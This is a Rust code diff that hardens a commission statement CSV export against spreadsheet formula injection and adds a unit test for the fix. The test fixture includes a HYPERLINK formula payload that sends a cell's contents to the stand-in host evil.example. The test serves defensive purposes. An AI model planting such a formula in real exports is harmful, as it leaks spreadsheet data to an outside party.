@@ -374,55 +374,120 @@ pub async fn statement(
     }))
 }
 
-/// The statement as CSV: one row per line, then the summary rows.
-pub fn statement_csv(statement: &Value) -> String {
-    let mut out = String::from("occurred_at,kind,commission_id,reference,amount_halalas,balance_halalas,event_id,position\n");
-    let field = |value: &Value| -> String {
-        let text = match value {
-            Value::String(s) => s.clone(),
-            Value::Null => String::new(),
-            other => other.to_string(),
-        };
-        if text.contains([',', '"', '\n']) {
-            format!("\"{}\"", text.replace('"', "\"\""))
-        } else {
-            text
-        }
-    };
-    if let Some(lines) = statement["lines"].as_array() {
-        for line in lines {
-            let cells: Vec<String> = [
-                "occurred_at",
-                "kind",
-                "commission_id",
-                "reference",
-                "amount_halalas",
-                "balance_halalas",
-                "event_id",
-                "position",
-            ]
+/// The statement as CSV (RFC 4180, written by the `csv` crate): one row per line, then one row
+/// per total. A text cell that a spreadsheet would read as a formula (it begins with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return) is neutralised with a leading `'`, as OWASP's CSV
+/// injection guidance recommends; numbers are written as numbers.
+pub fn statement_csv(statement: &Value) -> Result<String, ProjectionError> {
+    let mut writer = csv::Writer::from_writer(Vec::new());
+    let failed = |error: csv::Error| ProjectionError::External(format!("statement CSV: {error}"));
+    writer.write_record(LINE_COLUMNS).map_err(failed)?;
+    for line in statement["lines"].as_array().into_iter().flatten() {
+        let cells: Vec<String> = LINE_COLUMNS
             .iter()
-            .map(|key| field(&line[*key]))
+            .map(|key| csv_cell(&line[*key]))
             .collect();
-            out.push_str(&cells.join(","));
-            out.push('\n');
+        writer.write_record(&cells).map_err(failed)?;
+    }
+    for key in TOTAL_COLUMNS {
+        let name = key.trim_end_matches("_halalas");
+        let amount = csv_cell(&statement[key]);
+        writer
+            .write_record(["", name, "", "", &amount, "", "", ""])
+            .map_err(failed)?;
+    }
+    let bytes = writer
+        .into_inner()
+        .map_err(|error| ProjectionError::External(format!("statement CSV: {error}")))?;
+    String::from_utf8(bytes).map_err(|error| ProjectionError::External(error.to_string()))
+}
+
+/// The columns of a statement line, in CSV order.
+const LINE_COLUMNS: [&str; 8] = [
+    "occurred_at",
+    "kind",
+    "commission_id",
+    "reference",
+    "amount_halalas",
+    "balance_halalas",
+    "event_id",
+    "position",
+];
+
+/// The statement's totals, one CSV row each after the lines.
+const TOTAL_COLUMNS: [&str; 8] = [
+    "opening_balance_halalas",
+    "accrued_halalas",
+    "rejected_halalas",
+    "adjusted_halalas",
+    "clawed_back_halalas",
+    "paid_out_halalas",
+    "carried_halalas",
+    "closing_balance_halalas",
+];
+
+/// One CSV cell: text neutralised against formula injection, numbers as they are.
+fn csv_cell(value: &Value) -> String {
+    match value {
+        Value::String(text) => neutralised(text),
+        Value::Null => String::new(),
+        other => other.to_string(),
+    }
+}
+
+/// `text` with a leading `'` when a spreadsheet would take it for a formula.
+fn neutralised(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_text_cell_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not() {
+        let reason = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+        let statement = json!({
+            "lines": [
+                {"occurred_at": "2026-11-02T10:00:00Z", "kind": "rejected", "commission_id": "c-1",
+                 "reference": reason, "amount_halalas": -2_999, "balance_halalas": 0,
+                 "event_id": "e-1", "position": 7},
+                {"kind": "adjusted", "reference": "line one\rline two", "amount_halalas": 5},
+                {"kind": "adjusted", "reference": "+1", "amount_halalas": 1},
+                {"kind": "adjusted", "reference": "-1", "amount_halalas": 1},
+                {"kind": "adjusted", "reference": "@SUM(A1)", "amount_halalas": 1},
+                {"kind": "adjusted", "reference": "\tTAB", "amount_halalas": 1},
+                {"kind": "adjusted", "reference": "\rCR", "amount_halalas": 1},
+            ],
+            "opening_balance_halalas": -120,
+        });
+        let csv = statement_csv(&statement).unwrap();
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        let reference = |row: usize| rows[row][3].to_owned();
+        assert_eq!(reference(0), format!("'{reason}"));
+        assert_eq!(&rows[0][4], "-2999", "a negative amount stays a number");
+        assert_eq!(
+            reference(1),
+            "line one\rline two",
+            "a bare CR is quoted, not a row break"
+        );
+        for (row, text) in [
+            (2, "+1"),
+            (3, "-1"),
+            (4, "@SUM(A1)"),
+            (5, "\tTAB"),
+            (6, "\rCR"),
+        ] {
+            assert_eq!(reference(row), format!("'{text}"));
         }
+        assert_eq!(rows.len(), 7 + TOTAL_COLUMNS.len());
+        let opening = &rows[7];
+        assert_eq!((&opening[1], &opening[4]), ("opening_balance", "-120"));
+        assert!(csv.contains("\"line one\rline two\""), "{csv}");
     }
-    for key in [
-        "opening_balance_halalas",
-        "accrued_halalas",
-        "rejected_halalas",
-        "adjusted_halalas",
-        "clawed_back_halalas",
-        "paid_out_halalas",
-        "carried_halalas",
-        "closing_balance_halalas",
-    ] {
-        out.push_str(&format!(
-            ",{},,,{},,,\n",
-            key.trim_end_matches("_halalas"),
-            field(&statement[key])
-        ));
-    }
-    out
 }
